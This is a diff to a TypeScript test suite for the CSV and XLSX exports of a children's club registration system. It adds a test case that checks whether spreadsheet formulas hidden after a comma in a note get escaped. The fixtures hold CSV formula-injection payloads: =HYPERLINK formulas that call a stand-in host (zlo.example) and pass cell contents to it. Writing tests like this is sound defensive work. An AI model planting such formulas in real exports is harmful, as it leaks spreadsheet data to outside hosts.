@@ -22,6 +22,8 @@ let admin: Record<string, string>;
 let lector: Record<string, string>;
 
 const HOSTILE = '=HYPERLINK("http://zlo.example/?x="&A1;"Klikněte")';
+/** A formula after a comma: a spreadsheet set to commas splits the note there (issue 21). */
+const NOTE = 'Alergie; "ořechy"\r\nDruhý řádek,=HYPERLINK("http://zlo.example")';
 const HEADER =
   'Přihlášeno;Ke kontrole;Dítě;Narozeno;Rodič;E-mail;Telefon;Typ;Kroužek / tábor;Pobočka;Termín;Náhradník;' +
   'Platba;VS;Faktura;Zrušeno;Souhlas s foto;Poznámka';
@@ -44,7 +46,7 @@ beforeAll(async () => {
   await insertRegistration(database, {
     schedule_id: scheduleId,
     child_full_name: HOSTILE,
-    note: 'Alergie; "ořechy"\r\nDruhý řádek',
+    note: NOTE,
     customer_id: customerId,
     created_at: '2026-11-20T10:00:00Z',
   });
@@ -132,7 +134,11 @@ describe('the CSV export', () => {
     expect(response.headers.get('cache-control')).toBe('private, no-store');
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const text = bytes.toString('utf8').slice(1);
-    expect(text.split('\r\n')[0]).toBe(HEADER);
+    expect(text.split('\r\n')[0]).toBe(
+      HEADER.split(';')
+        .map((cell) => `"${cell}"`)
+        .join(';'),
+    );
     expect(parseCsv(text)).toHaveLength(1 + 7);
   });
 
@@ -142,7 +148,7 @@ describe('the CSV export', () => {
     expect(text).toContain(`"'=HYPERLINK(""http://zlo.example/?x=""&A1;""Klikněte"")"`);
     const hostile = parseCsv(text.slice(1)).find((row) => row[2]?.includes('HYPERLINK'))!;
     expect(hostile[2]).toBe(`'${HOSTILE}`);
-    expect(hostile[17]).toBe('Alergie; "ořechy"\r\nDruhý řádek');
+    expect(hostile[17]).toBe('Alergie; "ořechy"\r\nDruhý řádek,\'=HYPERLINK("http://zlo.example")');
     expect(hostile.slice(0, 2)).toEqual(['20.11.2026', 'Kontakt se liší od zákazníka: Jméno rodiče']);
     expect(hostile.slice(7, 13)).toEqual([
       'Kroužek',
@@ -204,7 +210,11 @@ describe('the XLSX export', () => {
     const csv = await csvRows(query);
     // The same cells. CSV alone needs the apostrophe that keeps a formula from running; XML reads a
     // line break as LF.
-    const asInXlsx = (cell: string) => cell.replace(/^'(?=[=+\-@\t\r])/, '').replace(/\r\n/g, '\n');
+    const asInXlsx = (cell: string) =>
+      cell
+        .replace(/^'(?=[=+\-@\t\r])/, '')
+        .replace(/([,;\t\r\n|] *)'(?=[=+\-@])/g, '$1')
+        .replace(/\r\n/g, '\n');
     expect(cells).toEqual(csv.map((row) => row.map(asInXlsx)));
     const hostileRow = cells.findIndex((row) => row[2]?.includes('HYPERLINK')) + 1;
     const hostile = sheet.getRow(hostileRow).getCell(3);
